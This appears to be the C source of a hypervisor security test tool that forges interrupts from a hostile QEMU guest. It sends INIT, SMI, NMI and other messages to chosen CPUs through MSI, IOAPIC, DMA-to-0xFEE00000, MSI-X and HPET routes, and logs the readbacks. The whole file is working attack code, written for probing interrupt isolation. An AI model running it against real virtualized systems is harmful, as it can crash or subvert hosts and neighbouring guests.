/* irq-attack: a hostile guest forges interrupts with QEMU's edu device, the
 * three ways a device can send them (issue 10):
 *
 *   irq-attack msi    MODE DEST [VECTOR]   edu's MSI capability programmed
 *                                          through sysfs config space, then
 *                                          edu raises its interrupt
 *   irq-attack ioapic MODE DEST [VECTOR]   the IOAPIC redirection entry of
 *                                          edu's INTx pin (GSI from sysfs)
 *                                          written through /dev/mem, then edu
 *                                          raises INTx
 *   irq-attack dma    MODE DEST [VECTOR]   edu DMA-writes the message data to
 *                                          0xFEE00000 | DEST << 12 (an interrupt
 *                                          message in compatibility format)
 *   irq-attack msix   MODE DEST [VECTOR]   the e1000e's MSI-X table entry 1 (the
 *                                          transmit queue's vector under Linux)
 *                                          written through its BAR, then a
 *                                          transmit: a UDP datagram to the
 *                                          gateway and the TXQ0 cause set with
 *                                          ICS; the entry is restored after
 *   irq-attack hpet   MODE DEST [VECTOR]   an HPET timer's FSB interrupt route
 *                                          (HPET 1.0a 2.3.9) written through
 *                                          /dev/mem with the message, FSB
 *                                          delivery enabled and the timer fired
 *                                          once 20 ms later (QEMU: -global
 *                                          hpet.msi=on); the last timer that has
 *                                          Tn_FSB_INT_DEL_CAP and is not in use
 *   irq-attack nmis                        the NMI count of /proc/interrupts
 *
 * MODE: fixed lowest smi nmi init startup extint (delivery modes 0-7, Intel
 * SDM 3A 10.11.2); DEST: physical APIC id. Natively an INIT resets the CPU
 * (the line after "sent" never comes), an NMI shows in /proc/interrupts.
 * Prints:
 *   guest: irq-attack sent source=msi mode=init dest=0x0 vector=0x30 device=...
 *   guest: irq-attack done source=msi mode=init nmi_before=N nmi_after=M
 *       readback_addr=0x... readback_data=0x...
 * (msi: what config space reads back after the write; ioapic: the entry;
 * hpet: the timer's configuration and route as the hardware shows them). */
#include <arpa/inet.h>
#include <dirent.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "common.h"

#define EDU_VENDOR 0x1234
#define EDU_DEVICE 0x11e8
#define EDU_IRQ_RAISE 0x60
#define EDU_IRQ_ACK 0x64
#define EDU_DMA_SRC 0x80
#define EDU_DMA_DST 0x88
#define EDU_DMA_CNT 0x90
#define EDU_DMA_CMD 0x98
#define EDU_BUF 0x40000
#define IOAPIC_BASE 0xfec00000u
#define HPET_BASE 0xfed00000u	/* QEMU's, and the ACPI HPET table's there */
#define PAGE 4096

static char dev_dir[300];
static volatile uint8_t *bar;

static const char *const modes[8] = { "fixed", "lowest", "smi", "reserved", "nmi", "init",
				      "startup", "extint" };

static void usage(void)
{
	fprintf(stderr, "usage: irq-attack msi|ioapic|dma|msix|hpet MODE DEST [VECTOR] | irq-attack nmis\n"
			"  MODE: fixed lowest smi nmi init startup extint\n");
	exit(EXIT_USAGE);
}

static unsigned long read_num(const char *dir, const char *name)
{
	char p[400], buf[64];
	int fd;
	ssize_t n;

	snprintf(p, sizeof(p), "%s/%s", dir, name);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return ~0ul;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return ~0ul;
	buf[n] = 0;
	return strtoul(buf, NULL, 0);
}

static void find_dev(unsigned vendor, unsigned device)
{
	const char *base = "/sys/bus/pci/devices";
	DIR *d = opendir(base);
	struct dirent *e;

	if (!d)
		die(EXIT_USAGE, "cannot list %s: %s", base, strerror(errno));
	while ((e = readdir(d))) {
		char p[sizeof(dev_dir)];

		if (e->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%.200s", base, e->d_name);
		if (read_num(p, "vendor") == vendor && read_num(p, "device") == device) {
			snprintf(dev_dir, sizeof(dev_dir), "%s", p);
			break;
		}
	}
	closedir(d);
	if (!dev_dir[0])
		die(EXIT_USAGE, "no device %04x:%04x", vendor, device);
}

static const char *bdf(void)
{
	return strrchr(dev_dir, '/') + 1;
}

static int config_fd(void)
{
	char p[400];
	int fd;

	snprintf(p, sizeof(p), "%s/config", dev_dir);
	fd = open(p, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		die(EXIT_USAGE, "cannot open %s: %s", p, strerror(errno));
	return fd;
}

static uint32_t cfg_read(int fd, unsigned off, int size)
{
	uint32_t v = 0;

	if (pread(fd, &v, (size_t)size, off) != size)
		die(EXIT_USAGE, "config read at 0x%x: %s", off, strerror(errno));
	return v;
}

static void cfg_write(int fd, unsigned off, int size, uint32_t v)
{
	if (pwrite(fd, &v, (size_t)size, off) != size)
		die(EXIT_USAGE, "config write at 0x%x: %s", off, strerror(errno));
}

/* A capability's offset (PCI 3.0 6.7: list at 0x34; MSI 0x05, MSI-X 0x11). */
static unsigned find_cap(int fd, unsigned id)
{
	unsigned p = cfg_read(fd, 0x34, 1) & ~3u;

	for (int i = 0; p >= 0x40 && i < 48; i++) {
		if ((cfg_read(fd, p, 1) & 0xff) == id)
			return p;
		p = cfg_read(fd, p + 1, 1) & ~3u;
	}
	die(EXIT_USAGE, "%s has no capability 0x%02x", bdf(), id);
}

static unsigned msi_cap(int fd)
{
	return find_cap(fd, 0x05);
}

/* A BAR of a function a driver owns (the e1000e): no enable, just map. */
static volatile uint8_t *map_resource(int n, size_t *len)
{
	char p[400];
	struct stat st;
	void *m;
	int fd;

	snprintf(p, sizeof(p), "%s/resource%d", dev_dir, n);
	fd = open(p, O_RDWR | O_SYNC | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st))
		die(EXIT_USAGE, "cannot open %s: %s", p, strerror(errno));
	*len = (size_t)st.st_size;
	m = mmap(NULL, *len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (m == MAP_FAILED)
		die(EXIT_USAGE, "cannot map %s: %s", p, strerror(errno));
	close(fd);
	return m;
}

static void wr32(unsigned off, uint32_t v) { *(volatile uint32_t *)(bar + off) = v; }
static uint32_t rd32(unsigned off) { return *(volatile uint32_t *)(bar + off); }
static void wr64(unsigned off, uint64_t v) { *(volatile uint64_t *)(bar + off) = v; }

static unsigned long nmis(void)
{
	FILE *f = fopen("/proc/interrupts", "r");
	char line[4096];
	unsigned long total = 0;

	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		char *s = line;

		while (*s == ' ')
			s++;
		if (strncmp(s, "NMI:", 4))
			continue;
		s += 4;
		for (;;) {
			char *end;
			unsigned long v = strtoul(s, &end, 10);

			if (end == s)
				break;
			total += v;
			s = end;
		}
	}
	fclose(f);
	return total;
}

/* After the interrupt was raised: 300 ms, or SHOJI_IRQHOLD seconds (the
 * irq script's shoji.irqhold=N) so the host can look at the machine while
 * the guest's forged entry is in place. */
static void settle(void)
{
	struct timespec ts = { 0, 300 * 1000 * 1000 };
	const char *hold = getenv("SHOJI_IRQHOLD");

	if (hold && atoi(hold) > 0) {
		say("holding secs=%d", atoi(hold));
		ts = (struct timespec){ atoi(hold), 0 };
	}
	nanosleep(&ts, NULL);
}

static uint32_t msg_data(unsigned mode, unsigned vector)
{
	return (uint32_t)(mode << 8 | vector);
}

static void attack_msi(unsigned mode, unsigned dest, unsigned vector, char *rb, size_t rblen)
{
	int fd = config_fd();
	unsigned cap = msi_cap(fd);
	uint16_t ctrl = (uint16_t)cfg_read(fd, cap + 2, 2);
	unsigned data_off = (ctrl & 0x80) ? cap + 0xc : cap + 8;

	cfg_write(fd, cap + 2, 2, ctrl & ~1u);		/* MSI off while programming */
	cfg_write(fd, cap + 4, 4, 0xfee00000u | dest << 12);
	if (ctrl & 0x80)
		cfg_write(fd, cap + 8, 4, 0);
	cfg_write(fd, data_off, 2, msg_data(mode, vector));
	cfg_write(fd, cap + 2, 2, (ctrl & ~0x70u) | 1);	/* one message, enabled */
	snprintf(rb, rblen, "readback_addr=0x%x readback_data=0x%x", cfg_read(fd, cap + 4, 4),
		 cfg_read(fd, data_off, 2));
	say("sent source=msi mode=%s dest=0x%x vector=0x%x device=%s", modes[mode], dest, vector,
	    bdf());
	wr32(EDU_IRQ_RAISE, 1);
	settle();
	wr32(EDU_IRQ_ACK, 1);
	cfg_write(fd, cap + 2, 2, ctrl & ~1u);		/* and off again */
	close(fd);
}

static volatile uint32_t *map_phys(uint32_t pa, const char *what)
{
	int fd = open("/dev/mem", O_RDWR | O_SYNC | O_CLOEXEC);
	void *m;

	if (fd < 0)
		die(EXIT_USAGE, "cannot open /dev/mem: %s", strerror(errno));
	m = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, pa);
	if (m == MAP_FAILED)
		die(EXIT_USAGE, "cannot map the %s at 0x%x: %s (iomem=relaxed?)", what, pa,
		    strerror(errno));
	close(fd);
	return m;
}

static volatile uint32_t *map_ioapic(void)
{
	return map_phys(IOAPIC_BASE, "IOAPIC");
}

/* HPET 1.0a 2.3: capabilities at 0x00 (12:8 timers - 1, 63:32 the period
 * in fs), configuration 0x10 (bit 0 ENABLE_CNF), main counter 0xF0; timer
 * N at 0x100 + 0x20 * N: configuration (2 Tn_INT_ENB_CNF, 14 Tn_FSB_EN_CNF,
 * 15 Tn_FSB_INT_DEL_CAP), comparator +8, FSB route +0x10 (value, then
 * address). Dword accesses throughout. */
static void attack_hpet(unsigned mode, unsigned dest, unsigned vector, char *rb, size_t rblen)
{
	volatile uint32_t *h = map_phys(HPET_BASE, "HPET");
	unsigned ntim = ((h[0] >> 8) & 0x1f) + 1, n = 0, found = 0;
	uint64_t period_fs = h[1], ticks, now;
	volatile uint32_t *t;

	if (!period_fs)
		die(EXIT_USAGE, "no HPET at 0x%x (period 0)", HPET_BASE);
	for (unsigned i = 0; i < ntim; i++) {
		uint32_t c = h[(0x100 + 0x20 * i) / 4];

		if ((c & 0x8000) && !(c & 0x4))
			n = i, found = 1;
	}
	if (!found)
		die(EXIT_USAGE, "no free HPET timer with FSB delivery (-global hpet.msi=on?)");
	t = h + (0x100 + 0x20 * n) / 4;
	if (!(h[0x10 / 4] & 1))
		h[0x10 / 4] |= 1;			/* the main counter runs */
	t[0] = t[0] & ~0x404eu;				/* one-shot, edge, off, 64-bit */
	ticks = 20000000000000ull / period_fs;		/* 20 ms */
	now = h[0xf0 / 4] | (uint64_t)h[0xf4 / 4] << 32;
	t[2] = (uint32_t)(now + ticks);
	t[3] = (uint32_t)((now + ticks) >> 32);
	t[4] = msg_data(mode, vector);			/* Tn_FSB_INT_VAL */
	t[5] = 0xfee00000u | dest << 12;		/* Tn_FSB_INT_ADDR */
	t[0] = (t[0] & ~0x404eu) | 0x4000 | 0x4;	/* FSB delivery, interrupt on */
	snprintf(rb, rblen, "timer=%u readback_cfg=0x%x readback_val=0x%x readback_addr=0x%x", n,
		 t[0], t[4], t[5]);
	say("sent source=hpet mode=%s dest=0x%x vector=0x%x device=hpet-timer%u", modes[mode],
	    dest, vector, n);
	settle();
	t[0] = t[0] & ~0x4004u;				/* off again */
}

static void ioapic_write(volatile uint32_t *io, unsigned reg, uint32_t v)
{
	io[0] = reg;
	io[4] = v;
}

static uint32_t ioapic_read(volatile uint32_t *io, unsigned reg)
{
	io[0] = reg;
	return io[4];
}

static void attack_ioapic(unsigned mode, unsigned dest, unsigned vector, char *rb, size_t rblen)
{
	volatile uint32_t *io = map_ioapic();
	int fd = config_fd();
	unsigned cap = msi_cap(fd);
	unsigned long gsi = read_num(dev_dir, "irq");
	uint16_t cmd;
	unsigned reg;

	cfg_write(fd, cap + 2, 2, cfg_read(fd, cap + 2, 2) & ~1u);	/* MSI off: INTx */
	cmd = (uint16_t)cfg_read(fd, 4, 2);
	cfg_write(fd, 4, 2, cmd & ~0x400u);				/* INTx enabled */
	close(fd);
	if (gsi == ~0ul || gsi == 0 || gsi >= 120)
		die(EXIT_USAGE, "no usable GSI for %s (irq=%lu)", bdf(), gsi);
	reg = 0x10 + 2 * (unsigned)gsi;
	/* Edge-triggered: one message at edu's rising edge. */
	ioapic_write(io, reg + 1, dest << 24);
	ioapic_write(io, reg, msg_data(mode, vector));
	snprintf(rb, rblen, "gsi=%lu readback_lo=0x%x readback_hi=0x%x", gsi,
		 ioapic_read(io, reg), ioapic_read(io, reg + 1));
	say("sent source=ioapic mode=%s dest=0x%x vector=0x%x device=%s gsi=%lu", modes[mode], dest,
	    vector, bdf(), gsi);
	wr32(EDU_IRQ_RAISE, 1);
	settle();
	wr32(EDU_IRQ_ACK, 1);
	ioapic_write(io, reg, 1u << 16);	/* masked again */
}

/* e1000e (82574, 8086:10d3): ICS at 0xc8 sets interrupt causes; bit 22 is
 * TXQ0, which Linux's MSI-X setup (IVAR) sends on entry 1. */
#define E1000_ICS 0xc8
#define E1000_ICR_TXQ0 (1u << 22)
#define MSIX_ENTRY 1

static void send_datagram(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	inet_pton(AF_INET, "10.0.2.2", &to.sin_addr);	/* QEMU user net's gateway */
	if (fd >= 0) {
		sendto(fd, "irq", 3, 0, (struct sockaddr *)&to, sizeof(to));
		close(fd);
	}
}

static void attack_msix(unsigned mode, unsigned dest, unsigned vector, char *rb, size_t rblen)
{
	int fd = config_fd();
	unsigned cap = find_cap(fd, 0x11);
	uint32_t tbl = cfg_read(fd, cap + 4, 4), saved[4];
	size_t len;
	volatile uint32_t *e;

	close(fd);
	e = (volatile uint32_t *)(map_resource((int)(tbl & 7), &len) + (tbl & ~7u) +
				  16 * MSIX_ENTRY);
	for (int i = 0; i < 4; i++)
		saved[i] = e[i];
	e[3] = 1;				/* masked while rewritten */
	e[0] = 0xfee00000u | dest << 12;
	e[1] = 0;
	e[2] = msg_data(mode, vector);
	e[3] = 0;
	snprintf(rb, rblen, "readback_addr=0x%x readback_data=0x%x saved_addr=0x%x saved_data=0x%x",
		 e[0], e[2], saved[0], saved[2]);
	say("sent source=msix mode=%s dest=0x%x vector=0x%x device=%s entry=%d", modes[mode], dest,
	    vector, bdf(), MSIX_ENTRY);
	send_datagram();
	wr32(E1000_ICS, E1000_ICR_TXQ0);
	settle();
	e[3] = 1;
	e[0] = saved[0];
	e[1] = saved[1];
	e[2] = saved[2];
	e[3] = saved[3];
}

static uint64_t virt_to_phys(const void *v)
{
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
	uint64_t e;

	if (fd < 0 || pread(fd, &e, 8, (off_t)((uintptr_t)v / PAGE * 8)) != 8)
		die(EXIT_USAGE, "cannot read /proc/self/pagemap: %s", strerror(errno));
	close(fd);
	if (!(e >> 63) || !(e & ((1ull << 55) - 1)))
		die(EXIT_USAGE, "no physical address for %p (root needed)", v);
	return (e & ((1ull << 55) - 1)) * PAGE + ((uintptr_t)v & (PAGE - 1));
}

static void dma(uint64_t src, uint64_t dst, uint32_t len, int to_ram)
{
	wr64(EDU_DMA_SRC, src);
	wr64(EDU_DMA_DST, dst);
	wr64(EDU_DMA_CNT, len);
	wr32(EDU_DMA_CMD, 1 | (to_ram ? 2 : 0));
	for (int i = 0; i < 1000 && (rd32(EDU_DMA_CMD) & 1); i++)
		usleep(1000);
	if (rd32(EDU_DMA_CMD) & 1)
		die(EXIT_TIMEOUT, "edu DMA did not complete");
}

static void attack_dma(unsigned mode, unsigned dest, unsigned vector, char *rb, size_t rblen)
{
	uint32_t *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	uint64_t msg = 0xfee00000u | dest << 12;

	if (page == MAP_FAILED || mlock(page, PAGE))
		die(EXIT_USAGE, "cannot get a locked page: %s", strerror(errno));
	page[0] = msg_data(mode, vector);
	dma(virt_to_phys(page), EDU_BUF, 4, 0);		/* the data into edu's buffer */
	snprintf(rb, rblen, "addr=0x%llx", (unsigned long long)msg);
	say("sent source=dma mode=%s dest=0x%x vector=0x%x device=%s addr=0x%llx", modes[mode],
	    dest, vector, bdf(), (unsigned long long)msg);
	dma(EDU_BUF, msg, 4, 1);			/* ... and to 0xFEEx_xxxx */
	settle();
}

int main(int argc, char **argv)
{
	unsigned mode = 8, dest, vector = 0x30;
	unsigned long before;
	char rb[160] = "";
	size_t len;

	prog_name = "irq-attack";
	if (argc == 2 && !strcmp(argv[1], "nmis")) {
		say("nmis count=%lu", nmis());
		return 0;
	}
	if (argc < 4 || argc > 5)
		usage();
	for (unsigned i = 0; i < 8; i++)
		if (!strcmp(argv[2], modes[i]))
			mode = i;
	if (mode == 8)
		usage();
	dest = (unsigned)arg_u64("DEST", argv[3]) & 0xff;
	if (argc == 5)
		vector = (unsigned)arg_u64("VECTOR", argv[4]) & 0xff;
	if (!strcmp(argv[1], "hpet")) {
		before = nmis();
		attack_hpet(mode, dest, vector, rb, sizeof(rb));
		say("done source=%s mode=%s nmi_before=%lu nmi_after=%lu %s", argv[1], modes[mode],
		    before, nmis(), rb);
		return 0;
	}
	if (!strcmp(argv[1], "msix")) {
		find_dev(0x8086, 0x10d3);
		bar = map_resource(0, &len);
	} else {
		find_dev(EDU_VENDOR, EDU_DEVICE);
		bar = pci_map_bar(dev_dir, 0, 1 << 20, &len);
	}
	before = nmis();
	if (!strcmp(argv[1], "msi"))
		attack_msi(mode, dest, vector, rb, sizeof(rb));
	else if (!strcmp(argv[1], "ioapic"))
		attack_ioapic(mode, dest, vector, rb, sizeof(rb));
	else if (!strcmp(argv[1], "dma"))
		attack_dma(mode, dest, vector, rb, sizeof(rb));
	else if (!strcmp(argv[1], "msix"))
		attack_msix(mode, dest, vector, rb, sizeof(rb));
	else
		usage();
	say("done source=%s mode=%s nmi_before=%lu nmi_after=%lu %s", argv[1], modes[mode], before,
	    nmis(), rb);
	return 0;
}
